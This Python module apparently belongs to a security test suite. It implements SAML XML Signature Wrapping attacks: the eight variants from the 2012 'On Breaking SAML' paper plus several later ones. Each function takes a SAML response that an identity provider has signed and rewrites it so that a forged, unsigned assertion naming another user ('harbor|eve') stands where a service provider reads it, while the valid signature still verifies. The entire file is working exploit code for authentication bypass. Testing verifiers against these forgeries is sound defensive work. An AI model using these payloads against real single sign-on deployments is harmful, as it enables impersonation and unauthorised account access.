"""Answers as attackers rebuild them: a true signature, and somebody else where the reader looks.

The eight ways of Somorovsky et al., On Breaking SAML (USENIX Security 2012), figure 5 on, and some
that were found later. Each takes an answer that the directory has signed.
"""

from __future__ import annotations

import base64
from copy import deepcopy

from lxml import etree

A = "{urn:oasis:names:tc:SAML:2.0:assertion}"
P = "{urn:oasis:names:tc:SAML:2.0:protocol}"
D = "{http://www.w3.org/2000/09/xmldsig#}"


def opened(form):
    """Return the answer in a form, as a tree."""
    return etree.fromstring(base64.b64decode(form["SAMLResponse"]))


def closed(form, root):
    """Return the form with another answer in it."""
    raw = root if isinstance(root, bytes) else etree.tostring(root)
    return {**form, "SAMLResponse": base64.b64encode(raw).decode()}


def forged(element, *, name="_evil"):
    """Return a copy that says it is of somebody else, unsigned, with an ID of its own."""
    copy = deepcopy(element)
    for signature in list(copy.iter(f"{D}Signature")):
        signature.getparent().remove(signature)
    copy.set("ID", name)
    for found in copy.iter(f"{A}NameID"):
        found.text = "harbor|eve"
    return copy


def xsw1(root):
    """The true answer goes into the signature of a forged one."""
    evil, signature = forged(root), deepcopy(root.find(f"{D}Signature"))
    true = deepcopy(root)
    true.remove(true.find(f"{D}Signature"))
    evil.insert(1, signature)
    signature.append(true)
    return evil


def xsw2(root):
    """The true answer stands before the signature, detached, in a forged one."""
    evil, signature = forged(root), deepcopy(root.find(f"{D}Signature"))
    true = deepcopy(root)
    true.remove(true.find(f"{D}Signature"))
    evil.insert(1, signature)
    evil.insert(1, true)
    return evil


def xsw3(root):
    """A forged assertion stands before the true one."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    root.insert(root.index(true), forged(true))
    return root


def xsw4(root):
    """The true assertion goes into a forged one."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true)
    root.replace(true, evil)
    evil.append(true)
    return root


def xsw5(root):
    """The forged assertion carries the signature; the true one, stripped of it, comes last."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true)
    signature = true.find(f"{D}Signature")
    root.insert(root.index(true), evil)
    evil.insert(1, signature)
    root.append(true)
    return root


def xsw6(root):
    """The forged assertion carries the signature, and in it the true one."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true)
    signature = true.find(f"{D}Signature")
    root.replace(true, evil)
    evil.insert(1, signature)
    signature.append(true)
    return root


def xsw7(root):
    """The forged assertion hides in extensions, before the true one."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    extensions = etree.Element(f"{P}Extensions")
    extensions.append(forged(true, name=true.get("ID")))
    root.insert(1, extensions)
    return root


def xsw8(root):
    """The forged assertion carries the signature, and the true one hides in an object of it."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true, name=true.get("ID"))
    signature = true.find(f"{D}Signature")
    root.replace(true, evil)
    evil.insert(1, signature)
    hidden = etree.SubElement(signature, f"{D}Object")
    hidden.append(true)
    return root


def wrapped_elsewhere(root):
    """The true assertion, signature and all, goes deep below; a forged one is first in place."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true)
    root.replace(true, evil)
    detail = etree.SubElement(root.find(f"{P}Status"), f"{P}StatusDetail")
    detail.append(true)
    return root


def renamed_ids(root):
    """The forged assertion bears the true one's name in an attribute that some readers prefer."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true)
    evil.set("Id", true.get("ID"))
    root.insert(root.index(true), evil)
    return root


def outer_answer(root):
    """The true answer, whole, goes into a forged one as an extension."""
    evil = forged(root)
    extensions = etree.Element(f"{P}Extensions")
    extensions.append(deepcopy(root))
    evil.insert(1, extensions)
    return evil


def only_the_signature(root):
    """The forged assertion takes the signature and its name, and the true one is gone."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    evil = forged(true, name=true.get("ID"))
    root.replace(true, evil)
    evil.insert(1, true.find(f"{D}Signature"))
    return root


def moved_up(root):
    """The forged assertion is signed by the true one's signature, put beside it."""
    root = deepcopy(root)
    true = root.find(f"{A}Assertion")
    signature = true.find(f"{D}Signature")
    root.insert(1, signature)
    root.replace(true, forged(true, name=true.get("ID")))
    return root
